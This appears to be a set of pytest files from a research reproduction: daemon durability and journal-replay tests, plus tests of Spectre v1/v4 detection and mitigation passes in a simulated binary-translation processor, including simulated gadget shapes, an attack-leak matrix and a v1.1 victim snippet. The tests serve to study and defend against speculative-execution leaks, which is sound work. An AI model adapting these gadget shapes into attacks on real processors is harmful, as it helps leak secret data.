        record = client.wait(slow, timeout=120)
        assert record["state"] == "done"
        assert record["attempts"] == 2
        assert record["result"] == {"slept": 3.0}
        status = client.status()
        assert status["stats"]["worker_crashes"] >= 1
        assert status["stats"]["duplicate_results"] == 0
        assert status["workers"] == 2  # fleet rebuilt
    finally:
        _stop(child)
    assert child.returncode == 0


def test_daemon_sigkill_replays_journal(tmp_path):
    """SIGKILL the daemon with one job done and one queued: the restart
    replays the journal — the result survives, the queued job runs,
    nothing is lost and nothing runs twice."""
    child, client, socket_path = _spawn_daemon(tmp_path)
    done_job = client.submit({"kind": "sleep", "seconds": 0.1})
    assert client.wait(done_job, timeout=60)["state"] == "done"
    # Queue a job the daemon will die holding.  workers=2 means it
    # leases immediately — the harder replay case (lease recovery).
    lost_job = client.submit({"kind": "sleep", "seconds": 60.0})
    deadline = time.time() + 30
    while time.time() < deadline:
        if client.request("job", job=lost_job).get("state") == "leased":
            break
        time.sleep(0.05)
    child.kill()
    child.wait()
    with pytest.raises(ServeError):
        client.request("ping")

    journal = tmp_path / "serve-work" / "journal.jsonl"
    events = [entry["event"] for entry in journal_events(journal)]
    assert "done" in events  # the finished job's result is durable

    # Unix sockets outlive their process; the restart rebinds.
    child2, client2, _ = _spawn_daemon(tmp_path)
    try:
        replayed_done = client2.request("job", job=done_job)
        assert replayed_done["state"] == "done"
        assert replayed_done["result"] == {"slept": 0.1}
        record = client2.wait(lost_job, timeout=120)
        assert record["state"] == "done"
        assert record["attempts"] >= 2  # the lost lease counted
        status = client2.status()
        assert status["stats"]["replayed_jobs"] == 2
        assert status["stats"]["completed"] == 1  # only the lost job ran
    finally:
        _stop(child2)


def test_sigterm_drains_and_compacts(tmp_path):
    """SIGTERM = graceful drain: in-flight jobs finish, the daemon
    exits 0, and the journal is compacted to snapshots."""
    child, client, _ = _spawn_daemon(tmp_path)
    job = client.submit({"kind": "sleep", "seconds": 1.0})
    deadline = time.time() + 30
    while time.time() < deadline:
        if client.request("job", job=job).get("state") == "leased":
            break
        time.sleep(0.05)
    child.terminate()  # SIGTERM
    out = child.communicate(timeout=120)[0]
    assert child.returncode == 0, out

    journal = tmp_path / "serve-work" / "journal.jsonl"
    events = journal_events(journal)
    assert [entry["event"] for entry in events] == ["state"]  # compacted
    assert events[0]["state"] == "done"  # drained, not dropped


def test_cli_submit_and_jobs_roundtrip(tmp_path):
    """The ``repro submit --wait`` / ``repro jobs`` clients against a
    live daemon."""
    child, _, socket_path = _spawn_daemon(tmp_path)
    env = dict(os.environ)
    env["PYTHONPATH"] = _REPO_SRC
    try:
        submit = subprocess.run(
            [sys.executable, "-m", "repro", "submit",
             json.dumps({"kind": "sleep", "seconds": 0.1}),
             "--socket", socket_path, "--wait", "--timeout", "60"],
            env=env, capture_output=True, text=True, timeout=120)
        assert submit.returncode == 0, submit.stderr
        # First line is the job id, then the terminal reply as JSON.
        job_id, reply_json = submit.stdout.split("\n", 1)
        assert job_id.startswith("job-")
        reply = json.loads(reply_json)
        assert reply["state"] == "done"
        assert reply["result"] == {"slept": 0.1}

        jobs = subprocess.run(
            [sys.executable, "-m", "repro", "jobs",
             "--socket", socket_path, "--json"],
            env=env, capture_output=True, text=True, timeout=60)
        assert jobs.returncode == 0, jobs.stderr
        listed = json.loads(jobs.stdout)
        assert [entry["state"] for entry in listed] == ["done"]
    finally:
        _stop(child)
