"""The serve journal's durability contract: checksummed WAL lines,
torn/corrupt-line tolerance, first-terminal-event-wins replay, and
atomic compaction.  Everything here is pure file-level — no daemon."""

import json
import random

import pytest

from repro.resilience.faults import corrupt_journal
from repro.serve import JobJournal, JobState
from repro.serve.journal import journal_events


def _journal(tmp_path) -> JobJournal:
    return JobJournal(tmp_path / "journal.jsonl")


def _submit_lease_done(journal, job_id="job-1", result=None):
    journal.append("submit", job_id, payload={"kind": "sleep"}, priority=0)
    journal.append("lease", job_id, attempt=1, worker=123)
    journal.append("done", job_id, result=result or {"slept": 1})


# ---------------------------------------------------------------------------
# Append + replay round trip.
# ---------------------------------------------------------------------------

def test_round_trip(tmp_path):
    journal = _journal(tmp_path)
    _submit_lease_done(journal, "job-1", result={"x": 1})
    journal.append("submit", "job-2", payload={"kind": "sleep"}, priority=5)
    journal.close()

    replay = _journal(tmp_path).replay()
    assert replay.corrupt_lines == 0
    assert replay.entries == 4
    done = replay.jobs["job-1"]
    assert done.state is JobState.DONE
    assert done.result == {"x": 1}
    assert done.attempts == 1
    queued = replay.jobs["job-2"]
    assert queued.state is JobState.QUEUED
    assert queued.priority == 5
    assert queued.payload == {"kind": "sleep"}


def test_replay_missing_file(tmp_path):
    replay = _journal(tmp_path).replay()
    assert replay.jobs == {}
    assert replay.entries == 0


def test_leased_jobs_requeue_on_replay(tmp_path):
    """A daemon SIGKILLed while a worker held a lease must re-run the
    job on restart — the worker died with the daemon."""
    journal = _journal(tmp_path)
    journal.append("submit", "job-1", payload={"kind": "sleep"})
    journal.append("lease", "job-1", attempt=1, worker=999)
    journal.close()

    replay = _journal(tmp_path).replay()
    record = replay.jobs["job-1"]
    assert record.state is JobState.QUEUED
    assert record.worker is None
    assert record.attempts == 1  # the lost attempt still counts
    assert replay.recovered_leases == 1


def test_requeue_event_round_trip(tmp_path):
    journal = _journal(tmp_path)
    journal.append("submit", "job-1", payload={"kind": "sleep"})
    journal.append("lease", "job-1", attempt=1, worker=1)
    journal.append("requeue", "job-1", reason="worker crash", backoff=0.5)
    journal.append("lease", "job-1", attempt=2, worker=2)
    journal.append("done", "job-1", result={"ok": 1})
    journal.close()

    record = _journal(tmp_path).replay().jobs["job-1"]
    assert record.state is JobState.DONE
    assert record.attempts == 2


def test_terminal_states_replay(tmp_path):
    journal = _journal(tmp_path)
    journal.append("submit", "f", payload={"kind": "sleep"})
    journal.append("failed", "f", error="boom")
    journal.append("submit", "q", payload={"kind": "sleep"})
    journal.append("quarantined", "q", error="poison", attempts=4)
    journal.close()

    jobs = _journal(tmp_path).replay().jobs
    assert jobs["f"].state is JobState.FAILED
    assert jobs["f"].error == "boom"
    assert jobs["q"].state is JobState.QUARANTINED


# ---------------------------------------------------------------------------
# Exactly-once: the first terminal event wins.
# ---------------------------------------------------------------------------

def test_first_terminal_event_wins(tmp_path):
    journal = _journal(tmp_path)
    journal.append("submit", "job-1", payload={"kind": "sleep"})
    journal.append("done", "job-1", result={"winner": True})
    journal.append("done", "job-1", result={"winner": False})
    journal.append("failed", "job-1", error="late loser")
    journal.close()

    replay = _journal(tmp_path).replay()
    record = replay.jobs["job-1"]
    assert record.state is JobState.DONE
    assert record.result == {"winner": True}
    assert replay.duplicate_results == 2


def test_late_lease_cannot_resurrect_terminal_job(tmp_path):
    journal = _journal(tmp_path)
    journal.append("submit", "job-1", payload={"kind": "sleep"})
    journal.append("done", "job-1", result={"x": 1})
    journal.append("lease", "job-1", attempt=2, worker=7)
    journal.append("requeue", "job-1", reason="zombie")
    journal.close()

    record = _journal(tmp_path).replay().jobs["job-1"]
    assert record.state is JobState.DONE
    assert record.result == {"x": 1}


# ---------------------------------------------------------------------------
# Corruption tolerance.
# ---------------------------------------------------------------------------

def test_torn_tail_is_dropped(tmp_path):
    journal = _journal(tmp_path)
    _submit_lease_done(journal)
    journal.close()
    with open(journal.path, "a") as handle:
        handle.write('{"seq": 99, "entry": {"event": "don')  # kill mid-write

    replay = _journal(tmp_path).replay()
    assert replay.corrupt_lines == 1
    assert replay.jobs["job-1"].state is JobState.DONE


def test_checksum_catches_flipped_byte(tmp_path):
    """corrupt_journal (the serve-journal-corrupt chaos fault) flips a
    byte in a committed ``done`` line: the checksum must drop exactly
    that line, demoting the job back to runnable."""
    journal = _journal(tmp_path)
    _submit_lease_done(journal)
    journal.close()

    detail = corrupt_journal(journal.path, random.Random(0))
    assert detail is not None and "flipped byte" in detail

    replay = _journal(tmp_path).replay()
    assert replay.corrupt_lines == 1
    record = replay.jobs["job-1"]
    assert record.state is JobState.QUEUED  # submit survived, result lost
    assert record.payload == {"kind": "sleep"}


def test_tampered_entry_with_stale_checksum_is_dropped(tmp_path):
    journal = _journal(tmp_path)
    _submit_lease_done(journal)
    journal.close()
    lines = journal.path.read_text().splitlines()
    line = json.loads(lines[-1])
    line["entry"]["result"] = {"forged": True}  # checksum now stale
    lines[-1] = json.dumps(line, sort_keys=True)
    journal.path.write_text("\n".join(lines) + "\n")

    replay = _journal(tmp_path).replay()
    assert replay.corrupt_lines == 1
    assert replay.jobs["job-1"].state is JobState.QUEUED


def test_sequence_resumes_after_replay(tmp_path):
    journal = _journal(tmp_path)
    _submit_lease_done(journal)
    journal.close()

    reopened = _journal(tmp_path)
    replay = reopened.replay()
    reopened.open(start_seq=replay.max_seq)
    seq = reopened.append("submit", "job-2", payload={"kind": "sleep"})
    reopened.close()
    assert seq == replay.max_seq + 1
    events = journal_events(reopened.path)
    assert [entry["seq"] for entry in events] == sorted(
        entry["seq"] for entry in events)


# ---------------------------------------------------------------------------
# Compaction.
# ---------------------------------------------------------------------------

def test_compact_to_one_snapshot_per_job(tmp_path):
    journal = _journal(tmp_path)
    _submit_lease_done(journal, "job-1", result={"x": 1})
    journal.append("submit", "job-2", payload={"kind": "sleep"}, priority=3)
    replay_before = _journal(tmp_path).replay()
    journal.compact(replay_before.jobs)

    assert len(journal.path.read_text().splitlines()) == 2  # one per job
    replay = _journal(tmp_path).replay()
    assert replay.corrupt_lines == 0
    assert replay.jobs["job-1"].state is JobState.DONE
    assert replay.jobs["job-1"].result == {"x": 1}
    assert replay.jobs["job-2"].state is JobState.QUEUED
    assert replay.jobs["job-2"].priority == 3
    assert replay.jobs["job-2"].payload == {"kind": "sleep"}


def test_compacted_snapshot_requeues_leased_jobs(tmp_path):
    journal = _journal(tmp_path)
    journal.append("submit", "job-1", payload={"kind": "sleep"})
    journal.append("lease", "job-1", attempt=1, worker=5)
    replay = _journal(tmp_path).replay()
    # replay already demoted LEASED→QUEUED; force the snapshot to carry
    # a live lease to prove the snapshot loader also demotes.
    replay.jobs["job-1"].state = JobState.LEASED
    journal.compact(replay.jobs)

    record = _journal(tmp_path).replay().jobs["job-1"]
    assert record.state is JobState.QUEUED


def test_append_after_compact_extends_snapshot(tmp_path):
    journal = _journal(tmp_path)
    _submit_lease_done(journal, "job-1")
    replay = _journal(tmp_path).replay()
    journal.compact(replay.jobs)
    journal.append("submit", "job-2", payload={"kind": "sleep"})
    journal.close()

    jobs = _journal(tmp_path).replay().jobs
    assert jobs["job-1"].state is JobState.DONE
    assert jobs["job-2"].state is JobState.QUEUED
