"""In-process serve daemon: scheduling, watchdog recovery, exactly-once
durability, quarantine, degradation, and telemetry equivalence.

Cheap scenarios use ``sleep`` jobs (no simulation); the equivalence
tests run real jobs and compare byte-for-byte against the one-shot
library calls the CLI uses — the ISSUE's acceptance bar."""

import json

import pytest

from repro.obs.pipeline import TelemetryConfig, merge_spool
from repro.platform.parallel import run_sweep_point
from repro.resilience.faults import FaultInjector, FaultSite
from repro.security.policy import MitigationPolicy
from repro.serve import (JobError, JobState, ServeConfig, ServeDaemon,
                         execute_job, validate_payload)


def _daemon(tmp_path, **overrides):
    fields = dict(workers=1, work_dir=tmp_path / "serve", backoff=0.05,
                  lease_timeout=30.0)
    fields.update(overrides)
    return ServeDaemon(ServeConfig(**fields))


@pytest.fixture
def daemon(tmp_path):
    instance = _daemon(tmp_path)
    instance.start()
    yield instance
    instance.stop(drain=False)


# ---------------------------------------------------------------------------
# Submission and validation.
# ---------------------------------------------------------------------------

def test_bad_payloads_rejected_at_submit(daemon):
    with pytest.raises(JobError):
        daemon.submit({"kind": "teleport"})
    with pytest.raises(JobError):
        daemon.submit({"kind": "sweep", "engine": {"warp_speed": 9}})
    with pytest.raises(JobError):
        daemon.submit({"kind": "sweep", "policies": ["nonsense"]})
    with pytest.raises(JobError):
        validate_payload(["not", "an", "object"])
    assert daemon.stats.submitted == 0


def test_sleep_job_completes(daemon):
    job_id = daemon.submit({"kind": "sleep", "seconds": 0.05})
    record = daemon.wait(job_id, timeout=30)
    assert record.state is JobState.DONE
    assert record.result == {"slept": 0.05}
    assert record.attempts == 1


def test_deterministic_payload_error_fails_without_retry(daemon):
    """A job whose payload explodes *inside* the worker (unknown kernel
    reaches the executor when submitted pre-validated shapes change) is
    a deterministic failure: fail fast, never burn the retry budget."""
    job_id = daemon.submit({"kind": "run", "asm": "this is not asm"})
    record = daemon.wait(job_id, timeout=30)
    assert record.state is JobState.FAILED
    assert record.attempts == 1
    assert record.error


def test_priority_order(tmp_path):
    """Higher priority leases first; ties go in submission order."""
    daemon = _daemon(tmp_path)
    order = []
    original = daemon._lease

    def tracking(handle, job_id):
        order.append(job_id)
        return original(handle, job_id)

    daemon._lease = tracking
    # Submit before starting the scheduler so the queue is fully formed
    # when the first lease decision happens.
    low = daemon.submit({"kind": "sleep", "seconds": 0.01}, priority=0)
    high = daemon.submit({"kind": "sleep", "seconds": 0.01}, priority=10)
    mid = daemon.submit({"kind": "sleep", "seconds": 0.01}, priority=5)
    daemon.start()
    try:
        for job_id in (low, high, mid):
            assert daemon.wait(job_id, timeout=30).state is JobState.DONE
    finally:
        daemon.stop(drain=False)
    assert order == [high, mid, low]


# ---------------------------------------------------------------------------
# Watchdog: crash, hang, lease expiry, quarantine.
# ---------------------------------------------------------------------------

def test_worker_crash_requeues_and_heals(daemon):
    job_id = daemon.submit({"kind": "sleep", "seconds": 0.05,
                            "fault": {"kind": "crash"}})
    record = daemon.wait(job_id, timeout=60)
    assert record.state is JobState.DONE
    assert record.attempts == 2  # crash on attempt 1, clean attempt 2
    assert daemon.stats.worker_crashes >= 1
    assert daemon.stats.requeues >= 1
    assert daemon.stats.completed == 1


def test_lease_expiry_sigkills_and_releases(tmp_path):
    daemon = _daemon(tmp_path, lease_timeout=0.5)
    daemon.start()
    try:
        # Hangs far past the lease; fires only on attempt 1.
        job_id = daemon.submit({"kind": "sleep", "seconds": 0.05,
                                "fault": {"kind": "hang", "seconds": 60}})
        record = daemon.wait(job_id, timeout=60)
    finally:
        daemon.stop(drain=False)
    assert record.state is JobState.DONE
    assert record.attempts == 2
    assert daemon.stats.lease_expiries >= 1


def test_poison_job_quarantined_fleet_survives(tmp_path):
    daemon = _daemon(tmp_path, retries=1)
    daemon.start()
    try:
        poison = daemon.submit({"kind": "sleep", "seconds": 0.05,
                                "fault": {"kind": "crash",
                                          "every_attempt": True}})
        record = daemon.wait(poison, timeout=120)
        assert record.state is JobState.QUARANTINED
        assert record.attempts == daemon.config.retries + 2
        assert daemon.stats.quarantined == 1
        # The fleet healed: a normal job still runs afterwards.
        after = daemon.submit({"kind": "sleep", "seconds": 0.05})
        assert daemon.wait(after, timeout=60).state is JobState.DONE
    finally:
        daemon.stop(drain=False)


def test_injected_lease_expiry_cannot_race_result(tmp_path):
    """serve-lease-expire pre-expires the lease, so even an instant job
    is killed and re-leased — and completes exactly once."""
    injector = FaultInjector(seed=0, sites=[FaultSite.SERVE_LEASE_EXPIRE])
    daemon = ServeDaemon(
        ServeConfig(workers=1, work_dir=tmp_path / "serve", backoff=0.05),
        injector=injector)
    daemon.start()
    try:
        job_id = daemon.submit({"kind": "sleep", "seconds": 0.01})
        record = daemon.wait(job_id, timeout=60)
    finally:
        daemon.stop(drain=False)
    assert record.state is JobState.DONE
    assert record.attempts == 2
    assert daemon.stats.lease_expiries == 1
    assert daemon.stats.completed == 1  # exactly once
    assert [r.site for r in injector.fired] == [FaultSite.SERVE_LEASE_EXPIRE]


# ---------------------------------------------------------------------------
# Durability across daemon lifetimes.
# ---------------------------------------------------------------------------

def test_results_survive_restart(tmp_path):
    daemon = _daemon(tmp_path)
    daemon.start()
    job_id = daemon.submit({"kind": "sleep", "seconds": 0.05})
    daemon.wait(job_id, timeout=30)
    daemon.stop()  # clean stop compacts the journal

    restarted = _daemon(tmp_path)
    restarted.start()
    try:
        record = restarted.job(job_id)
        assert record.state is JobState.DONE
        assert record.result == {"slept": 0.05}
        assert restarted.stats.replayed_jobs == 1
        # Replay must not re-run the job.
        assert restarted.stats.completed == 0
    finally:
        restarted.stop(drain=False)


def test_queued_jobs_survive_restart_and_run(tmp_path):
    """Jobs submitted but never started before the daemon dies must run
    after restart (no lost jobs)."""
    daemon = _daemon(tmp_path, workers=1)
    # No scheduler: submit goes to the journal, nothing ever leases.
    daemon.journal.open()
    job_id = daemon.submit({"kind": "sleep", "seconds": 0.05})
    daemon.journal.close()

    restarted = _daemon(tmp_path)
    restarted.start()
    try:
        record = restarted.wait(job_id, timeout=30)
        assert record.state is JobState.DONE
    finally:
        restarted.stop(drain=False)


def test_drain_finishes_inflight_keeps_queue(tmp_path):
    daemon = _daemon(tmp_path, workers=1)
    daemon.start()
    running = daemon.submit({"kind": "sleep", "seconds": 1.0})
    queued = daemon.submit({"kind": "sleep", "seconds": 0.05})
    # Let the first job lease, then drain.
    import time
    while daemon.job(running).state is not JobState.LEASED:
        time.sleep(0.01)
    daemon.stop(drain=True)
    assert daemon.job(running).state is JobState.DONE
    assert daemon.job(queued).state is JobState.QUEUED  # not lost, not run

    restarted = _daemon(tmp_path)
    restarted.start()
    try:
        assert restarted.wait(queued, timeout=30).state is JobState.DONE
        assert restarted.job(running).state is JobState.DONE
        assert restarted.stats.completed == 1  # only the queued one ran
    finally:
        restarted.stop(drain=False)


# ---------------------------------------------------------------------------
# Graceful degradation: serial in-daemon fallback.
# ---------------------------------------------------------------------------

def test_degraded_fleet_falls_back_to_serial(tmp_path):
    daemon = _daemon(tmp_path)
    daemon.start()
    try:
        # Simulate an unrebuildable fleet (spawn failures).
        daemon.fleet.shutdown()
        daemon.fleet.degraded = True
        job_id = daemon.submit({"kind": "sleep", "seconds": 0.05})
        record = daemon.wait(job_id, timeout=30)
        assert record.state is JobState.DONE
        assert daemon.stats.serial_jobs == 1
        assert daemon.telemetry.serial_fallbacks == 1
        assert daemon.status()["degraded"] is True
    finally:
        daemon.stop(drain=False)


def test_serial_fallback_strips_chaos_faults(tmp_path):
    """A crash fault must not kill the daemon when it is the executor."""
    daemon = _daemon(tmp_path)
    daemon.start()
    try:
        daemon.fleet.shutdown()
        daemon.fleet.degraded = True
        job_id = daemon.submit({"kind": "sleep", "seconds": 0.05,
                                "fault": {"kind": "crash"}})
        record = daemon.wait(job_id, timeout=30)
        assert record.state is JobState.DONE  # fault stripped, not fired
    finally:
        daemon.stop(drain=False)


# ---------------------------------------------------------------------------
# Results and telemetry must equal the one-shot CLI's.
# ---------------------------------------------------------------------------

def test_run_job_matches_oneshot(daemon):
    payload = {"kind": "run", "kernel": "atax", "policy": "ghostbusters",
               "engine": {"hot_threshold": 4}}
    record = daemon.wait(daemon.submit(payload), timeout=120)
    assert record.state is JobState.DONE
    assert record.result == execute_job(payload)


def test_attack_job_blocked_policy_matrix(daemon):
    record = daemon.wait(
        daemon.submit({"kind": "attack", "variant": "v1",
                       "policies": ["unsafe", "ghostbusters"]}),
        timeout=240)
    assert record.state is JobState.DONE
    by_policy = {row["policy"]: row for row in record.result["results"]}
    assert by_policy["unsafe"]["leaked"] is True
    assert by_policy["ghostbusters"]["leaked"] is False


def test_job_metrics_equal_oneshot_telemetry(daemon, tmp_path):
    """The PR 6 pipeline threaded through the fleet: a telemetered run
    job's merged metrics equal a serial one-shot telemetered run."""
    payload = {"kind": "run", "kernel": "atax", "policy": "unsafe",
               "telemetry": True}
    record = daemon.wait(daemon.submit(payload), timeout=120)
    assert record.state is JobState.DONE
    metrics = record.result["metrics"]
    assert record.result["telemetry"]["envelopes"] == 1

    from repro.kernels import SMALL_SIZES, build_kernel_program

    spool = tmp_path / "oneshot-spool"
    spool.mkdir()
    template = TelemetryConfig(spool_dir=str(spool))
    run_sweep_point(build_kernel_program(SMALL_SIZES["atax"]()),
                    MitigationPolicy.UNSAFE,
                    telemetry=template.with_point(
                        "run/unsafe", policy="unsafe", interpreter="fast"))
    expected = merge_spool(spool).registry.to_dict()
    assert metrics["counters"] == expected["counters"]
    assert metrics["histograms"] == expected["histograms"]


def test_retried_job_metrics_not_double_counted(tmp_path):
    """The spool is wiped at re-lease, so a crash-then-retry job merges
    exactly one attempt's envelopes."""
    daemon = _daemon(tmp_path)
    daemon.start()
    try:
        payload = {"kind": "run", "kernel": "atax", "policy": "unsafe",
                   "telemetry": True, "fault": {"kind": "crash"}}
        record = daemon.wait(daemon.submit(payload), timeout=120)
        assert record.state is JobState.DONE
        assert record.attempts == 2
        assert record.result["telemetry"]["envelopes"] == 1

        clean = daemon.wait(
            daemon.submit({"kind": "run", "kernel": "atax",
                           "policy": "unsafe", "telemetry": True}),
            timeout=120)
    finally:
        daemon.stop(drain=False)
    assert record.result["metrics"] == clean.result["metrics"]


def test_result_json_round_trips(daemon):
    """Results live in the journal as JSON; whatever a job returns must
    survive the round trip unchanged."""
    record = daemon.wait(
        daemon.submit({"kind": "run", "kernel": "atax",
                       "policy": "unsafe"}), timeout=120)
    assert record.result == json.loads(json.dumps(record.result))


def test_orphaned_workers_exit_when_daemon_fds_close():
    """A SIGKILLed daemon must not orphan its warm workers.  Under the
    fork context every later worker inherits the daemon's pipe ends to
    the earlier ones; unless each child closes those inherited ends,
    the siblings keep each other's pipes open and no worker ever sees
    EOF after the daemon dies — they heartbeat forever (each tier-1 run
    used to leak two such orphans via the daemon-SIGKILL smoke test).
    Closing every daemon-side conn emulates the fd closure the kernel
    performs on daemon death; both workers must then exit on their own.
    """
    import time

    from repro.serve.fleet import WorkerFleet

    fleet = WorkerFleet(size=2, heartbeat_interval=0.1)
    fleet.start()
    try:
        deadline = time.monotonic() + 30.0
        while (any(not handle.ready for handle in fleet.workers)
               and time.monotonic() < deadline):
            fleet.poll(timeout=0.1)
        assert all(handle.ready for handle in fleet.workers)
        processes = [handle.process for handle in fleet.workers]
        for handle in fleet.workers:
            handle.conn.close()
        for process in processes:
            process.join(10.0)
        assert all(not process.is_alive() for process in processes), (
            "workers outlived the daemon-side pipe closure")
    finally:
        for handle in list(fleet.workers):
            WorkerFleet._kill_process(handle)
        fleet.workers = []
