"""Mitigation pass and policy-enum tests."""

from repro.dbt.ir import DepKind, IRBlock, IRInstruction, IRKind
from repro.security.mitigation import apply_fence, apply_ghostbusters
from repro.security.poison import analyze_block
from repro.security.policy import ALL_POLICIES, MitigationPolicy
from repro.vliw.isa import Condition


def _v4_block():
    return IRBlock(entry=0x1000, instructions=[
        IRInstruction(IRKind.STORE, src1=1, src2=2),
        IRInstruction(IRKind.LOAD, dst=5, src1=1),
        IRInstruction(IRKind.LOAD, dst=6, src1=5),
        IRInstruction(IRKind.JUMP_EXIT, target=0x100),
    ])


def _spectre_edges(block):
    return [(e.src, e.dst) for e in block.extra_dependences
            if e.kind is DepKind.SPECTRE]


def test_ghostbusters_pins_flagged_access_to_guards():
    block = _v4_block()
    report = analyze_block(block)
    result = apply_ghostbusters(block, report)
    assert result.applied
    assert result.patterns == 1
    assert (0, 2) in _spectre_edges(block)  # store -> flagged load
    # The speculative source itself is NOT pinned (paper Figure 3C).
    assert (0, 1) not in _spectre_edges(block)


def test_fence_serialises_around_flagged_access():
    block = _v4_block()
    report = analyze_block(block)
    result = apply_fence(block, report)
    edges = _spectre_edges(block)
    assert (0, 2) in edges and (1, 2) in edges  # everything before -> access
    assert (2, 3) in edges                      # access -> everything after
    assert result.edges_added == 3


def test_no_pattern_means_no_edges():
    block = IRBlock(entry=0, instructions=[
        IRInstruction(IRKind.LOAD, dst=5, src1=1),
        IRInstruction(IRKind.JUMP_EXIT, target=0x100),
    ])
    report = analyze_block(block)
    assert not apply_ghostbusters(block, report).applied
    assert not apply_fence(block, report).applied


def test_policy_properties():
    assert MitigationPolicy.UNSAFE.speculation_enabled
    assert MitigationPolicy.GHOSTBUSTERS.speculation_enabled
    assert MitigationPolicy.FENCE.speculation_enabled
    assert not MitigationPolicy.NO_SPECULATION.speculation_enabled

    assert not MitigationPolicy.UNSAFE.analyzes_patterns
    assert MitigationPolicy.GHOSTBUSTERS.analyzes_patterns
    assert MitigationPolicy.FENCE.analyzes_patterns
    assert not MitigationPolicy.NO_SPECULATION.analyzes_patterns


def test_policy_labels_match_paper_vocabulary():
    assert MitigationPolicy.GHOSTBUSTERS.label == "our approach"
    assert MitigationPolicy.NO_SPECULATION.label == "no speculation"
    assert len(ALL_POLICIES) == 4
