"""Poison-analysis tests (paper Section IV-A rules)."""

from repro.dbt.ir import IRBlock, IRInstruction, IRKind
from repro.security.poison import analyze_block
from repro.vliw.isa import Condition


def alu(dst, src1, src2=None, imm=0):
    if src2 is None:
        return IRInstruction(IRKind.ALUI, op="add", dst=dst, src1=src1, imm=imm)
    return IRInstruction(IRKind.ALU, op="add", dst=dst, src1=src1, src2=src2)


def load(dst, base, imm=0):
    return IRInstruction(IRKind.LOAD, dst=dst, src1=base, imm=imm,
                         guest_address=0x40 + dst)


def store(base, value):
    return IRInstruction(IRKind.STORE, src1=base, src2=value)


def branch():
    return IRInstruction(IRKind.BRANCH_EXIT, condition=Condition.GEU,
                         src1=10, src2=11, target=0x99)


def jump():
    return IRInstruction(IRKind.JUMP_EXIT, target=0x100)


def block(*instructions):
    return IRBlock(entry=0x1000, instructions=list(instructions))


# ---------------------------------------------------------------------------
# The two canonical patterns.
# ---------------------------------------------------------------------------

def test_v1_pattern_detected():
    # branch ; load a=buf[x] ; shift ; load arrayVal[a] -> flagged.
    b = block(
        branch(),
        load(5, 1),        # speculative source (above-branch candidate)
        alu(6, 5, imm=64),
        load(7, 6),        # address derives from the speculative load
        jump(),
    )
    report = analyze_block(b)
    assert report.has_pattern
    assert [f.index for f in report.flagged] == [3]
    assert 1 in report.speculative_sources
    assert report.flagged[0].address_register == 6
    assert 0 in report.flagged[0].guards  # the branch guards it


def test_v4_pattern_detected():
    # store addrBuf ; load addrBuf ; load buffer[a] ; load arrayVal[b].
    b = block(
        store(1, 2),
        load(5, 1),        # may be hoisted above the store
        load(6, 5),        # poisoned address -> flagged
        alu(7, 6, imm=64),
        load(8, 7),        # transitively poisoned -> flagged too
        jump(),
    )
    report = analyze_block(b)
    flagged = [f.index for f in report.flagged]
    assert flagged == [2, 4]
    assert report.flagged[0].guards == (0,)


# ---------------------------------------------------------------------------
# Propagation rules.
# ---------------------------------------------------------------------------

def test_clean_code_has_no_pattern():
    b = block(
        load(5, 1),
        alu(6, 5, imm=1),
        store(2, 6),
        jump(),
    )
    report = analyze_block(b)
    assert not report.has_pattern
    assert report.speculative_sources == ()


def test_arithmetic_propagates_poison():
    b = block(
        branch(),
        load(5, 1),
        alu(6, 5, 5),
        alu(7, 6, imm=3),
        load(8, 7),
        jump(),
    )
    report = analyze_block(b)
    assert [f.index for f in report.flagged] == [4]


def test_clean_redefinition_kills_poison():
    b = block(
        branch(),
        load(5, 1),       # poisons r5
        alu(5, 2, imm=0),  # overwrites r5 with a clean value
        load(6, 5),        # address is clean now
        jump(),
    )
    report = analyze_block(b)
    assert not report.has_pattern


def test_store_with_poisoned_address_is_flagged():
    b = block(
        store(1, 2),
        load(5, 1),
        store(5, 3),       # poisoned address used by a store
        jump(),
    )
    report = analyze_block(b)
    assert [f.index for f in report.flagged] == [2]


def test_poisoned_value_stored_is_not_flagged():
    # Storing a poisoned *value* to a clean address cannot leak.
    b = block(
        store(1, 2),
        load(5, 1),
        store(3, 5),       # value poisoned, address clean
        jump(),
    )
    report = analyze_block(b)
    assert not report.has_pattern


def test_branch_speculation_disabled_removes_v1_sources():
    b = block(
        branch(),
        load(5, 1),
        alu(6, 5, imm=64),
        load(7, 6),
        jump(),
    )
    report = analyze_block(b, branch_speculation=False)
    assert not report.has_pattern


def test_memory_speculation_disabled_removes_v4_sources():
    b = block(
        store(1, 2),
        load(5, 1),
        load(6, 5),
        jump(),
    )
    report = analyze_block(b, memory_speculation=False)
    assert not report.has_pattern


def test_load_before_any_guard_is_not_speculative():
    b = block(
        load(5, 1),        # nothing to speculate above
        load(6, 5),        # dependent, but source is non-speculative
        branch(),
        jump(),
    )
    report = analyze_block(b)
    assert not report.has_pattern


def test_poisoned_outputs_recorded_for_dfg_dump():
    b = block(
        store(1, 2),
        load(5, 1),
        alu(6, 5, imm=1),
        jump(),
    )
    report = analyze_block(b)
    assert report.poisoned_outputs[1] is True
    assert report.poisoned_outputs[2] is True


def test_report_counts():
    b = block(
        store(1, 2),
        load(5, 1),
        load(6, 5),
        jump(),
    )
    report = analyze_block(b)
    assert report.pattern_count == 1
    assert report.entry == 0x1000
