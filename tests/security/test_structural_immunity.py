"""Structural (non-)vulnerability results.

The paper considers "the Spectre variants based on branch prediction and
load/store queue because they have their equivalent in a DBT based
processor."  Two other well-known variants have *no* equivalent on this
platform, and the tests below pin down why — the properties are
guaranteed by construction, not by a mitigation:

* **Spectre v1.1 (speculative buffer overflow)** needs a *store* executed
  under a mispredicted bounds check.  The DBT scheduler never moves a
  store above a trace exit (CTRL edges to stores are not relaxable), so
  there is no speculative store to exploit.
* **Meltdown-style deferred faults** need an access that architecturally
  faults but micro-architecturally forwards data.  There is no
  forward-then-fault window in this model: speculative loads are ordinary
  loads to hidden registers.
"""

from repro.isa.assembler import assemble
from repro.dbt.blocks import discover_block
from repro.dbt.ir import DepKind, IRKind
from repro.dbt.irbuilder import build_ir
from repro.dbt.scheduler import SchedulerOptions, schedule_block
from repro.vliw.config import VliwConfig
from repro.vliw.isa import VliwOpcode

CONFIG = VliwConfig()

# A v1.1-shaped victim: bounds check guarding a *store* through an
# attacker-influenced index.
V11_SHAPE = """
head:
    ld t0, 0(s3)
    ld t0, 0(t0)
    ld t0, 0(t0)
    bgeu a0, t0, out
    add t1, s0, a0
    sb a1, 0(t1)       # store under the bounds check
out:
    ecall
"""


def _v11_ir():
    program = assemble(V11_SHAPE)
    head = discover_block(program, program.symbol("head"))
    then = discover_block(program, head.fallthrough)
